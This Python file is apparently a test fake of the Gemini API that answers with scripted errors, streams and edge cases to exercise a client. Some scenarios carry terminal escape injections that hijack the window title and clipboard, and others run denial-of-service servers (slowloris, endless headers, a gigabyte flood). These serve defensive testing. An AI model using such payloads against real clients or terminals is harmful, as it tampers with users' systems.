#!/usr/bin/env python3
"""A local fake of the Gemini REST API that speaks Google's wire format and misbehaves on demand.

Answers are built from the files in fixtures/. The scenario is chosen by the model name in the
URL: `models/<scenario>[~tag]:streamGenerateContent`. A tag makes per-scenario counters (for
"fail once, then succeed") independent between tests. Every request is logged as one JSON line
to --log (method, path, headers, body) so tests can check what the client sent.

Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), hidden-markdown (words markdown takes unseen; a CRLF-closed fence, a line per event), joiners (ZWJ/ZWNJ and CRLF, one event per code point), thinking-long (two markdown thought summaries, the second glued to the first), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, thinking-slow, echo, escape, error-before, error-mid, error-mid-data,
retry-429, retry-503, retry-after (503 with Retry-After: 2, then ok), always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
other-finish (no content, finishReason OTHER with Google's finishMessage), thinking-only (thought
parts, then MAX_TOKENS with no text), signed (Gemini 3's thought signatures, checked on the way back), metered (usageMetadata with every billed count), grounded, grounded-cjk, grounded-bad (Search grounding with Latin, CJK and broken byte offsets), url-read (URL context), code-run (code execution), no-tools (refuses every tool), schema-refused (refuses any responseJsonSchema), cut-event (a reply whose stream ends in the middle of an event),
drop, hang, hang-first, echo-key, echo-foreign-key, api-blocked; and hostile ones: gigabyte, flood, endless-header, slowloris. Unknown scenario names answer 404 NOT_FOUND like Google does.

The slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table and tall scenarios stream the replies in STREAMED_REPLIES in
small pieces, and note when each piece went out (time.time()) as a JSON line in the log's
".sent" file, so a test can compare it with the moment the text showed on its terminal.

Replies name the model that ran in `modelVersion`: the scenario's name without its tag, or for an
id Google retired, the model that serves it (ROUTES: 3.7 Flash -> 3.8 Flash since 2026-10-08). A
tag `~tier-flex` (or -priority, -batch, -standard) answers with the `x-gemini-service-tier` header.
`thinkingLevel: MINIMAL` on a model that refuses it (NO_MINIMAL) gets Google's 400, and any
`thinkingConfig` sent to `no-thinking-dev` gets the Developer API's "Thinking is not enabled".

Keys as Google treats them since September 2026 (KEY POLICY below): an auth key (`AQ.` and at least
37 more URL-safe characters, dots inside) is accepted; a standard key (`AIza` + 35) gets the real
401 ACCESS_TOKEN_TYPE_UNSUPPORTED, or 400 API_KEY_INVALID with --standard-keys reject-400 (or
accept, for old behaviour); anything else gets 400 API_KEY_INVALID. An auth key starting with
"AQ.BAD" is a revoked one (400 API_KEY_INVALID), one starting with "AQ.UNBOUND" has a broken
service-account binding (401 ACCESS_TOKEN_TYPE_UNSUPPORTED). A request that carries an
Authorization header besides the key gets 401, as Google answers two credentials.
"""
import argparse
import base64
import hashlib
import json
import os
import re
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HERE = os.path.dirname(os.path.abspath(__file__))
FIXTURES = os.path.join(HERE, "fixtures")
COUNTERS = {}
LOCK = threading.Lock()


# KEY POLICY: the shapes gemvault's GoogleKeyShape defines, written again here from the docs.
AUTH_KEY = re.compile(r"^AQ\.[A-Za-z0-9_-]+(\.[A-Za-z0-9_-]+)*$")
STANDARD_KEY = re.compile(r"^AIza[A-Za-z0-9_-]{35}$")


PROXY_SCENARIOS = ("/echo-key", "/echo-foreign-key")
FOREIGN_AUTH_KEY = "AQ.Fz9QwErTyUiOpAsDfGhJkLzXcVbNm1234567890-_qwertyuio"


def key_kind(key):
    if STANDARD_KEY.match(key):
        return "standard"
    if AUTH_KEY.match(key) and 40 <= len(key) <= 512:
        return "auth"
    return "other"


def fixture(name):
    with open(os.path.join(FIXTURES, name), "rb") as handle:
        return handle.read()


def event(obj):
    return b"data: " + json.dumps(obj, separators=(",", ": "), ensure_ascii=False).encode() + b"\r\n\r\n"


# Thinking that used the whole output budget: thought tokens, no answer, MAX_TOKENS.
THINKING_ONLY = {"candidates": [{"content": {"role": "model"}, "finishReason": "MAX_TOKENS", "index": 0}],
                 "usageMetadata": {"promptTokenCount": 9, "thoughtsTokenCount": 1021, "totalTokenCount": 1030},
                 "modelVersion": "gemini-3.6-flash"}


def text_chunk(text, finish=None, usage=None):
    candidate = {"content": {"parts": [{"text": text}], "role": "model"}}
    if finish:
        candidate["finishReason"] = finish
    body = {"candidates": [candidate], "modelVersion": "gemini-3.6-flash"}
    if usage:
        body["usageMetadata"] = usage
    return body


# Retired ids and aliases, and the model that serves them (gemini-prices-2026-12.md §4).
ROUTES = {"gemini-3.7-flash": "gemini-3.8-flash", "gemini-3.5-flash": "gemini-3.6-flash", "gemini-flash-latest": "gemini-3.8-flash"}
# Models that answer thinkingLevel MINIMAL with 400 (gemini-2026-features.md, December 2026).
NO_MINIMAL = ("gemini-3.8-flash", "gemini-3.7-flash", "gemini-flash-latest", "gemini-3.1-pro", "gemini-4-")
FIXTURE_VERSION = b'"modelVersion": "gemini-3.6-flash"'


def served_model(model):
    base = model.split("~")[0]
    return ROUTES.get(base, base)


def tier_tag(model):
    match = re.search(r"~tier-(standard|flex|priority|batch)\b", model)
    return match.group(1) if match else None


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    log_path = None
    # Set per generate request: the model whose name replies carry, and the tier header to send.
    model_version = None
    service_tier = None

    def log_message(self, *args):
        pass

    # -- plumbing -------------------------------------------------------------------------
    def record(self, body):
        # A request through a proxy arrives in absolute form: note it and keep the path.
        proxied = self.path.startswith("http://")
        if proxied:
            self.path = "/" + self.path.split("/", 3)[3]
        if not self.log_path:
            return
        entry = {"method": self.command, "path": self.path, "headers": dict(self.headers.items()),
                 "body": body.decode("utf-8", "replace"), "proxied": proxied}
        with LOCK, open(self.log_path, "a") as log:
            log.write(json.dumps(entry) + "\n")

    def send_json(self, status, payload, content_type="application/json; charset=UTF-8", headers=()):
        if self.model_version:
            payload = payload.replace(FIXTURE_VERSION, b'"modelVersion": ' + json.dumps(self.model_version).encode())
        self.send_response(status)
        if status == 200 and self.service_tier:
            self.send_header("x-gemini-service-tier", self.service_tier)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def start_stream(self):
        self.send_response(200)
        if self.service_tier:
            self.send_header("x-gemini-service-tier", self.service_tier)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()

    def chunk(self, data):
        if self.model_version:
            data = data.replace(FIXTURE_VERSION, b'"modelVersion": ' + json.dumps(self.model_version).encode())
        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
        self.wfile.flush()

    def end_stream(self):
        self.wfile.write(b"0\r\n\r\n")
        self.wfile.flush()

    def note_sent(self, model, text):
        if not self.log_path:
            return
        with LOCK, open(self.log_path + ".sent", "a") as log:
            log.write(json.dumps({"model": model, "time": time.time(), "text": text}) + "\n")

    def stream_pieces(self, model, text, size, delay):
        """`text` in pieces of `size` characters, `delay` seconds apart, each noted as sent; a
        longer pause once PAUSE_AFTER's sentence is out, so a test can act between frames."""
        pause_after = PAUSE_AFTER.get(model.split("~")[0])
        for start in range(0, len(text), size):
            piece = text[start:start + size]
            self.chunk(event(text_chunk(piece)))
            self.note_sent(model, piece)
            time.sleep(delay)
            if pause_after and pause_after[0] in text[:start + size] and pause_after[0] not in text[:start]:
                time.sleep(pause_after[1])
        self.chunk(event(text_chunk("", "STOP")))

    def count(self, model):
        with LOCK:
            COUNTERS[model] = COUNTERS.get(model, 0) + 1
            return COUNTERS[model]

    # -- routes ---------------------------------------------------------------------------
    def do_GET(self):
        self.model_version = self.service_tier = None
        self.record(b"")
        if not self.authorised():
            return
        if self.path.startswith("/v1beta/models?") or self.path == "/v1beta/models":
            page = fixture("models-page2.json" if "pageToken=" in self.path else "models-page1.json")
            self.send_json(200, page)
        elif self.path.startswith("/v1beta/models/") and "/" not in self.path[len("/v1beta/models/"):]:
            self.model_facts(self.path[len("/v1beta/models/"):].split("?")[0])
        else:
            self.send_json(404, fixture("error-not-found.json").replace(b"{MODEL}", b"unknown"))

    def do_POST(self):
        self.model_version = self.service_tier = None
        length = int(self.headers.get("Content-Length", "0"))
        body = self.rfile.read(length)
        self.record(body)
        path = self.path.split("?")[0]
        # A proxy in front of Google answers before Google checks the key.
        if not any(proxy in path for proxy in PROXY_SCENARIOS) and not self.authorised():
            return
        if not path.startswith("/v1beta/models/") or ":" not in path:
            self.send_json(404, fixture("error-not-found.json").replace(b"{MODEL}", b"unknown"))
            return
        model, method = path[len("/v1beta/models/"):].rsplit(":", 1)
        scenario = model.split("~")[0]
        try:
            request = json.loads(body or b"{}")
        except ValueError:
            self.send_json(400, json.dumps({"error": {"code": 400, "message": "Invalid JSON payload received.", "status": "INVALID_ARGUMENT"}}, indent=2).encode())
            return
        if method == "countTokens":
            return self.count_tokens(model, request)
        config = request.get("generationConfig", {})
        thinking = config.get("thinkingConfig", {})
        if method in ("generateContent", "streamGenerateContent"):
            self.model_version, self.service_tier = served_model(model), tier_tag(model)
        if "thinkingConfig" in config and scenario == "no-thinking-dev":
            # The Developer API's answer to any thinkingConfig for a model that does not think.
            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                      "message": "Thinking is not enabled for models/%s" % scenario}}, indent=2).encode())
            return
        if str(thinking.get("thinkingLevel", "")).upper() == "MINIMAL" and served_model(model).startswith(NO_MINIMAL):
            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                      "message": "Thinking level MINIMAL is not supported for this model. Please retry with other thinking level."}}, indent=2).encode())
            return
        if "thinkingLevel" in thinking and "thinkingBudget" in thinking:
            # Google refuses a level and a budget together.
            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                      "message": "You can only set only one of thinking budget and thinking level."}}, indent=2).encode())
            return
        if thinking.get("includeThoughts") and scenario == "no-thinking":
            # A model that does not think refuses thought summaries (gemini-cli#1953's words).
            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                      "message": "Unable to submit request because thinking_config.include_thoughts is only enabled when thinking is enabled."}}, indent=2).encode())
            return
        if "thinkingLevel" in thinking and str(thinking["thinkingLevel"]).upper() not in ("MINIMAL", "LOW", "MEDIUM", "HIGH", "XHIGH"):
            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                      "message": "Invalid value at 'generation_config.thinking_config.thinking_level'."}}, indent=2).encode())
            return
        unknown = unknown_field(request) if method in ("generateContent", "streamGenerateContent") else None
        if unknown:
            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                      "message": "Invalid JSON payload received. Unknown name \"%s\" at '%s': Cannot find field." % unknown}}, indent=2).encode())
            return
        if method in ("generateContent", "streamGenerateContent") and request.get("store") is not False and "~store-ok" not in model:
            # Stricter than Google, which keeps a request that does not say "store": false: the
            # suite's every request must say it, unless a test opted in (a model name with ~store-ok).
            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                      "message": "fake: this request would be kept at Google: it has no \"store\": false (store=%s)" % json.dumps(request.get("store"))}}, indent=2).encode())
            return
        refused_tool = next((name for tool in request.get("tools", []) for name in tool if scenario == "no-tools"), None)
        if refused_tool:
            # A model without the tool refuses it by its snake_case name.
            snake = re.sub(r"([A-Z])", lambda m: "_" + m.group(1).lower(), refused_tool)
            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                      "message": "%s is not supported for this model." % snake}}, indent=2).encode())
            return
        if not signed_turns_intact(request.get("contents", [])):
            # Stricter than Google for a turn without function calls, so the round trip is tested.
            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                      "message": "Unable to submit request because a model turn is missing its thought_signature. Thought signatures must be passed back exactly as they were received."}}, indent=2).encode())
            return
        if method in ("generateContent", "streamGenerateContent") and ("responseJsonSchema" in config or "responseSchema" in config):
            if config.get("responseMimeType") != "application/json":
                # Google's answer for a schema without the JSON MIME type.
                self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                          "message": "Invalid JSON payload received. response_mime_type must be application/json when a response schema is set."}}, indent=2).encode())
                return
            if scenario == "schema-refused":
                # A schema Google will not take (too deep, or a keyword it lacks).
                self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                          "message": "The specified response_json_schema is too complex: it has too many nested levels."}}, indent=2).encode())
                return
            if scenario.startswith("structured"):
                return self.structured(method, scenario, config["responseJsonSchema"])
        if method == "generateContent":
            self.unary(model, scenario, request)
        elif method == "streamGenerateContent" and "alt=sse" in self.path:
            self.stream(model, scenario, request)
        else:
            self.send_json(404, fixture("error-not-found.json").replace(b"{MODEL}", model.encode()))

    def count_tokens(self, model, request):
        """countTokens as Google takes it: `contents` alone, or the whole `generateContentRequest`
        (naming the model, with "store" inside it); Google knows no "store" beside them. The
        count is one token per word of the contents and the system instruction, and 10 per tool."""
        def refuse(message):
            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT", "message": message}}, indent=2).encode())
        unknown = [name for name in request if name not in ("contents", "generateContentRequest")]
        if unknown:
            return refuse("Invalid JSON payload received. Unknown name \"%s\": Cannot find field." % unknown[0])
        if ("contents" in request) == ("generateContentRequest" in request):
            return refuse("* CountTokensRequest: contents and generate_content_request are mutually exclusive; exactly one is required.")
        whole = request.get("generateContentRequest")
        if whole is not None:
            inner = {name: value for name, value in whole.items() if name != "model"}
            found = unknown_field(inner)
            if found:
                return refuse("Invalid JSON payload received. Unknown name \"%s\" at 'generate_content_request%s': Cannot find field." % (found[0], "." + found[1] if found[1] else ""))
            if whole.get("model") != "models/" + model:
                return refuse("* CountTokensRequest.generate_content_request.model: the model %s is not the one of the URL" % json.dumps(whole.get("model")))
            if whole.get("store") is not False and "~store-ok" not in model:
                return refuse("fake: the counted request would be kept at Google: it has no \"store\": false")
        source = whole if whole is not None else request
        texts = [p.get("text", "") for c in source.get("contents", []) + ([source["systemInstruction"]] if "systemInstruction" in source else []) for p in c.get("parts", [])]
        total = sum(len(text.split()) for text in texts) + 10 * len(source.get("tools", []))
        self.send_json(200, json.dumps({"totalTokens": total}, indent=2).encode())

    def model_facts(self, name):
        """models.get: the fixture's model, else one made up for a scenario, whose output limit is
        65536, or N with a tag ~out-N."""
        for page in ("models-page1.json", "models-page2.json"):
            for model in json.loads(fixture(page))["models"]:
                if model["name"] == "models/" + name:
                    return self.send_json(200, json.dumps(model, indent=2).encode())
        limit = re.search(r"~out-(\d+)", name)
        self.send_json(200, json.dumps({"name": "models/" + name, "version": "001", "displayName": name, "inputTokenLimit": 1048576,
                                        "outputTokenLimit": int(limit.group(1)) if limit else 65536,
                                        "supportedGenerationMethods": ["generateContent", "countTokens"]}, indent=2).encode())

    def structured(self, method, scenario, schema):
        """A reply in JSON made from the request's schema ("structured"); one that breaks it
        ("structured-wrong": a required member left out, or the wrong type); or not JSON at
        all ("structured-text"); or the schema's own "description", as the test wrote it
        ("structured-described"). Streamed in pieces, as Gemini streams JSON."""
        value = schema_instance(schema, schema) if scenario != "structured-described" else None
        if scenario == "structured-wrong":
            required = schema.get("required") or []
            if isinstance(value, dict) and required:
                del value[required[0]]
            else:
                value = "not what the schema asks"
        text = "Sure! Here it is:" if scenario == "structured-text" else json.dumps(value, ensure_ascii=False, indent=1)
        if scenario == "structured-described":
            text = schema["description"]
        usage = {"promptTokenCount": 12, "candidatesTokenCount": 20, "totalTokenCount": 32}
        if method == "generateContent":
            self.send_json(200, json.dumps(text_chunk(text, "STOP", usage), indent=2).encode())
            return
        self.start_stream()
        for start in range(0, len(text), 7):
            self.chunk(event(text_chunk(text[start:start + 7])))
        self.chunk(event(text_chunk("", "STOP", usage)))
        self.end_stream()

    standard_keys = "reject-401"

    def authorised(self):
        key = self.headers.get("x-goog-api-key")
        if not key:
            self.send_json(403, json.dumps({"error": {"code": 403, "message": "Method doesn't allow unregistered callers (callers without established identity). Please use API Key or other form of API consumer identity to call this API.", "status": "PERMISSION_DENIED"}}, indent=2).encode())
            return False
        if self.headers.get("Authorization"):
            # Google takes the bearer token as the credential and refuses both at once.
            self.send_json(401, fixture("error-401-oauth-only.json"))
            return False
        kind = key_kind(key)
        invalid = fixture("error-invalid-key.json").replace(b"{KEY_PREFIX}", key[:12].encode())
        if kind == "standard" and not key.startswith("AIzaBAD"):
            if self.standard_keys == "reject-401":
                self.send_json(401, fixture("error-401-token-type.json"))
                return False
            if self.standard_keys == "reject-400":
                self.send_json(400, invalid)
                return False
            return True
        if kind == "auth" and key.startswith("AQ.UNBOUND"):
            self.send_json(401, fixture("error-401-token-type.json"))
            return False
        if kind == "auth" and not key.startswith("AQ.BAD"):
            return True
        # Google's DebugInfo quotes part of the key; the client must not show it.
        self.send_json(400, invalid)
        return False

    def failure_first(self, model, scenario):
        """Errors answered before any streaming starts; returns True when one was sent."""
        if scenario == "retry-429" and self.count(model) == 1:
            self.send_json(429, fixture("error-429-retryinfo.json"))
        elif scenario == "retry-503" and self.count(model) == 1:
            self.send_json(503, fixture("error-503.json"))
        elif scenario == "retry-after" and self.count(model) == 1:
            self.send_json(503, fixture("error-503.json"), headers=[("Retry-After", "2")])
        elif scenario == "always-503":
            self.count(model)
            self.send_json(503, fixture("error-503.json"))
        elif scenario == "quota-day":
            self.count(model)
            self.send_json(429, fixture("error-429-daily.json"))
        elif scenario == "disabled":
            self.send_json(403, fixture("error-403-disabled.json"))
        elif scenario == "echo-foreign-key":
            # A proxy's error page quoting somebody else's auth key: redacted by its shape alone.
            self.send_json(400, json.dumps({"error": {"code": 400, "message": "upstream rejected credential %s (see x-goog-api-key)" % FOREIGN_AUTH_KEY,
                                                      "status": "INVALID_ARGUMENT"}}, indent=2).encode())
        elif scenario == "api-blocked":
            self.send_json(403, fixture("error-403-service-blocked.json"))
        elif scenario == "echo-key":
            # A server (or a proxy in front of it) that quotes the credential back in full.
            key = self.headers.get("x-goog-api-key", "")
            self.send_json(400, json.dumps({"error": {"code": 400, "message": "Request had invalid credential %s for this project." % key,
                                                      "status": "INVALID_ARGUMENT"}}, indent=2).encode())
        elif scenario not in SCENARIOS:
            # Google sends the error pretty-printed, and with text/event-stream on stream requests.
            self.send_json(404, fixture("error-not-found.json").replace(b"{MODEL}", model.encode()), "text/event-stream")
        else:
            return False
        return True

    def unary(self, model, scenario, request):
        if self.failure_first(model, scenario):
            return
        if scenario == "echo":
            self.send_json(200, json.dumps(echo_reply(request), indent=2).encode())
        elif scenario == "blocked":
            self.send_json(200, json.dumps({"promptFeedback": {"blockReason": "SAFETY"}, "usageMetadata": {"promptTokenCount": 6, "totalTokenCount": 6}}, indent=2).encode())
        elif scenario in ("max-tokens", "safety", "recitation"):
            reason = scenario.replace("-", "_").upper()
            self.send_json(200, json.dumps(text_chunk("Partial answer", reason), indent=2).encode())
        elif scenario == "other-finish":
            self.send_json(200, fixture("unary-other-finish-message.json"))
        elif scenario == "thinking-only":
            self.send_json(200, json.dumps(THINKING_ONLY, indent=2).encode())
        elif scenario == "metered":
            self.send_json(200, json.dumps(text_chunk("Metered reply.", "STOP", METERED_USAGE), indent=2).encode())
        elif scenario in TOOL_REPLIES:
            events = tool_reply(scenario, request)
            parts = [p for e in events for p in e["candidates"][0]["content"]["parts"]]
            whole = dict(events[-1])
            whole["candidates"] = [dict(events[-1]["candidates"][0], content={"parts": parts, "role": "model"})]
            self.send_json(200, json.dumps(whole, indent=2, ensure_ascii=False).encode())
        elif scenario == "signed":
            turn = sum(1 for c in request.get("contents", []) if c.get("role") == "user")
            thought = [{"text": "**Weighing** the question", "thought": True}] if config_thoughts(request) else []
            self.send_json(200, json.dumps({"candidates": [{"content": {"parts": thought + signed_parts(turn), "role": "model"}, "finishReason": "STOP"}],
                                            "usageMetadata": SIGNED_USAGE, "modelVersion": "gemini-3.6-flash"}, indent=2).encode())
        elif scenario == "thinking":
            # The stream's two events as one answer: a thought summary, then the answer.
            parts = [json.loads(line[len(b"data: "):])["candidates"][0]["content"]["parts"][0]
                     for line in fixture("stream-thinking.sse").split(b"\r\n") if line.startswith(b"data: ")]
            self.send_json(200, json.dumps({"candidates": [{"content": {"parts": parts, "role": "model"}, "finishReason": "STOP"}],
                                            "usageMetadata": {"promptTokenCount": 5, "candidatesTokenCount": 3, "thoughtsTokenCount": 40, "totalTokenCount": 48},
                                            "modelVersion": "gemini-3.6-flash"}, indent=2).encode())
        else:
            self.send_json(200, fixture("unary-basic.json"))

    def stream(self, model, scenario, request):
        if self.failure_first(model, scenario):
            return
        if scenario in HOSTILE:
            try:
                HOSTILE[scenario](self)
            except (BrokenPipeError, ConnectionResetError):
                pass
            return
        basic = fixture("stream-basic.sse")
        events = [e + b"\r\n\r\n" for e in basic.split(b"\r\n\r\n") if e]
        if scenario in ("thinking", "thinking-slow"):
            events = [fixture("stream-thinking.sse")]
            if scenario == "thinking-slow":
                events = [e + b"\r\n\r\n" for e in events[0].split(b"\r\n\r\n") if e.strip()]
        elif scenario == "echo":
            events = [event(echo_reply(request))]
        elif scenario == "metered":
            events = [event(text_chunk("Metered ")), event(text_chunk("reply.", "STOP", METERED_USAGE))]
        elif scenario == "thinking-escape":
            # A thought whose heading would set the window title and write the clipboard.
            evil = "**Plan \x1b]0;pwned\x07 \x1b]52;c;ZXZpbA==\x07\r now** more"
            events = [event({"candidates": [{"content": {"parts": [{"text": evil, "thought": True}], "role": "model"}}]}),
                      event(text_chunk("Safe answer.", "STOP"))]
        elif scenario in TOOL_REPLIES:
            events = [event(e) for e in tool_reply(scenario, request)]
        elif scenario == "signed":
            turn = sum(1 for c in request.get("contents", []) if c.get("role") == "user")
            parts = signed_parts(turn)
            events = [event({"candidates": [{"content": {"parts": [part], "role": "model"}}], "modelVersion": "gemini-3.6-flash"}) for part in parts[:-1]]
            events.append(event({"candidates": [{"content": {"parts": [parts[-1]], "role": "model"}, "finishReason": "STOP"}],
                                 "usageMetadata": SIGNED_USAGE, "modelVersion": "gemini-3.6-flash"}))
            if config_thoughts(request):
                events.insert(0, event({"candidates": [{"content": {"parts": [{"text": "**Weighing** the question", "thought": True}], "role": "model"}}]}))
        elif scenario == "code":
            events = [event(text_chunk(CODE_REPLY, "STOP"))]
        elif scenario == "escape":
            evil = "red \x1b[31mALERT\x1b[0m clip \x1b]52;c;ZXZpbA==\x07 title \x1b]0;pwned\x07 bell\x07 c1 \u009b2J end\n"
            events = [event(text_chunk(evil, "STOP"))]
        elif scenario == "hidden":
            events = [event(text_chunk(HIDDEN_REPLY, "STOP"))]
        elif scenario == "hidden-markdown":
            events = [event(text_chunk(c)) for c in re.findall(r"[^\n]*\n?", HIDDEN_MARKDOWN_REPLY) if c] + [event(text_chunk("", "STOP"))]
        elif scenario == "thinking-long":
            # Two summaries as Gemini sends them: the second glued to the first's last sentence.
            parts = [{"text": t, "thought": True} for t in THOUGHT_PARTS]
            events = [event({"candidates": [{"content": {"parts": [p], "role": "model"}}]}) for p in parts]
            events.append(event(text_chunk("The answer.", "STOP")))
        elif scenario == "joiners":
            # One event per code point: every joiner and CRLF lands at a piece's edge.
            events = [event(text_chunk(c)) for c in JOINER_REPLY] + [event(text_chunk("", "STOP"))]
        elif scenario == "blocked":
            events = [fixture("stream-blocked.sse")]
        elif scenario in ("max-tokens", "safety", "recitation"):
            reason = scenario.replace("-", "_").upper()
            events = [event(text_chunk("Partial answer")), event(text_chunk("", reason))]
        elif scenario == "other-finish":
            events = [b"data: " + json.dumps(json.loads(fixture("unary-other-finish-message.json"))).encode() + b"\r\n\r\n"]
        elif scenario == "thinking-only":
            events = [event({"candidates": [{"content": {"parts": [{"text": "**Planning** a long thought", "thought": True}], "role": "model"}}],
                             "modelVersion": "gemini-3.6-flash"}), event(THINKING_ONLY)]
        elif scenario == "cut-event":
            whole = event(text_chunk(" and the rest", "STOP"))
            events = [events[0], whole[:len(whole) // 2]]
        self.start_stream()
        try:
            if scenario == "lf":
                for e in events:
                    self.chunk(e.replace(b"\r\n", b"\n"))
            elif scenario == "split":
                for byte in b"".join(events):
                    self.chunk(bytes([byte]))
                    time.sleep(0.0005)
            elif scenario == "slow":
                for e in events:
                    self.chunk(e)
                    time.sleep(0.4)
            elif scenario == "thinking-slow":
                # The thought, then a long pause before the answer, as a thinking model takes.
                self.chunk(events[0])
                time.sleep(2)
                for e in events[1:]:
                    self.chunk(e)
            elif scenario == "error-mid":
                self.chunk(fixture("stream-error-mid.txt"))
            elif scenario == "error-mid-data":
                self.chunk(events[0])
                self.chunk(event(json.loads(fixture("error-503.json"))))
            elif scenario == "drop":
                self.chunk(events[0])
                time.sleep(0.1)
                self.connection.shutdown(socket.SHUT_RDWR)
                self.close_connection = True
                return
            elif scenario in ("hang", "hang-first"):
                if scenario == "hang":
                    self.chunk(events[0])
                for _ in range(600):  # bounded: at most 60 s, or until the client leaves
                    time.sleep(0.1)
                    self.wfile.write(b"")
                    if client_gone(self.connection):
                        return
                return
            elif scenario == "garbage":
                self.chunk(b"<html><body>502 Bad Gateway</body></html>\r\n")
            elif scenario == "empty":
                pass
            elif scenario == "not-json":
                self.chunk(b"data: {this is not json\r\n\r\n")
            elif scenario == "steady":
                for i in range(12):
                    self.chunk(event(text_chunk("step %d " % i)))
                    time.sleep(0.3)
            elif scenario in STREAMED_REPLIES:
                text, size, delay = STREAMED_REPLIES[scenario]
                self.stream_pieces(model, text, size, delay)
            elif scenario == "slow-long":
                for i in range(100):
                    self.chunk(event(text_chunk("tick %d " % i)))
                    time.sleep(0.1)
            else:
                for e in events:
                    self.chunk(e)
            self.end_stream()
        except (BrokenPipeError, ConnectionResetError):
            pass


# -- hostile servers: each is bounded in time and stops as soon as the client leaves -------------
def hostile_gigabyte(handler):
    """A gigabyte of well-formed events, as fast as the socket takes them."""
    handler.start_stream()
    piece = event(text_chunk("x" * 65000))
    for _ in range((1 << 30) // len(piece) + 1):
        handler.chunk(piece)
    handler.end_stream()


def hostile_flood(handler):
    """10,000 small events a second for two seconds, then a proper end."""
    handler.start_stream()
    start = time.monotonic()
    for batch in range(200):
        handler.chunk(b"".join(event(text_chunk("f%d " % (batch * 100 + i))) for i in range(100)))
        delay = start + (batch + 1) / 100 - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    handler.chunk(event(text_chunk("", "STOP", {"promptTokenCount": 1, "candidatesTokenCount": 20000, "totalTokenCount": 20001})))
    handler.end_stream()


def hostile_endless_header(handler):
    """A status line, then a new header line every 0.2 s, never the blank line that ends them."""
    handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n")
    for i in range(600):  # at most 120 s
        handler.wfile.write(b"X-Padding-%d: %s\r\n" % (i, b"p" * 64))
        handler.wfile.flush()
        time.sleep(0.2)
        if client_gone(handler.connection):
            return


def hostile_slowloris(handler):
    """Proper headers, then one byte of an event every 0.2 s: data, never a whole event."""
    handler.start_stream()
    dribble = event(text_chunk("slow " * 1000))
    for byte in dribble[:600]:  # at most 120 s
        handler.chunk(bytes([byte]))
        time.sleep(0.2)
        if client_gone(handler.connection):
            return


HOSTILE = {"gigabyte": hostile_gigabyte, "flood": hostile_flood, "endless-header": hostile_endless_header,
           "slowloris": hostile_slowloris}


def client_gone(connection):
    try:
        connection.setblocking(False)
        data = connection.recv(1, socket.MSG_PEEK)
        return data == b""
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        connection.setblocking(True)


SLOW_PARAGRAPH = ("Streaming replies should show their first words at once, not after the whole paragraph has arrived, "
                  "because a person watching a bare label for ten seconds thinks the program hung. This paragraph is long "
                  "on purpose: it has **bold words** in the middle, a `short code span`, and enough text to wrap over several "
                  "lines at forty, sixty or a hundred columns, so that the open block is redrawn in place many times while "
                  "it grows, and finally ends here.\n")

SLOW_MARKDOWN = """Here is a function, a list, a table and a poem.

```python
def greet(name):
    if name:
        for letter in name:
            print("  " + letter)
    return f"hello {name}"
```

1. First step
   - nested point one
   - nested point two
2. Second step

| 名字 | emoji | n |
|---|---|--:|
| 你好世界 | 👋 | 1 |
| ab | 🚀 | 200 |

Roses are red,
violets are blue,
this poem keeps
its line breaks too.

See https://example.com/a/rather/long/path/that/must/never/be/cut/in/the/middle/of/a/word for more.
"""

# A code block with one line wider than any window, for replies that must stay in their frame.
WIDE_CODE = ("Here is the call:\n\n```python\nresult = compute(" + ", ".join("argument_%02d" % number for number in range(12)) +
             ")  # END-OF-WIDE-LINE\nprint(result)\n```\n\nThat is all.\n")

# A table of four columns about 150 columns wide, for tables that must fit the window.
WIDE_TABLE = """Settings:

| Option | What it does | Default | Where it is set |
|---|---|--:|---|
| timeout | The number of seconds a request may take before gemvault gives up on it | 60 | config file, GEMVAULT_TIMEOUT or --timeout |
| model | The Gemini model used when none is named on the command line | gemini-flash | config file or GEMVAULT_MODEL |

That is all.
"""

TALL_REPLY = "".join("Line %02d of a reply taller than the window.\n\n" % number for number in range(1, 41)) + \
    " ".join("word%03d" % number for number in range(300)) + "\n"

# scenario: (sentence, seconds): the stream pauses once the sentence is sent (a window
# resized while chat waits, not while a frame may be in flight to the terminal).
PAUSE_AFTER = {"tall": ("Line 20 of a reply taller than the window.\n", 0.8)}

# scenario: (text, characters per piece, seconds between pieces)
STREAMED_REPLIES = {
    "slow-paragraph": (SLOW_PARAGRAPH, 12, 0.08),
    "slow-markdown": (SLOW_MARKDOWN, 9, 0.02),
    "tall": (TALL_REPLY, 23, 0.005),
    "slow-wide-code": (WIDE_CODE, 10, 0.03),
    "slow-wide-table": (WIDE_TABLE, 16, 0.02),
}


def schema_instance(schema, root):
    """A value the JSON Schema accepts: the first enum value, required members, one item."""
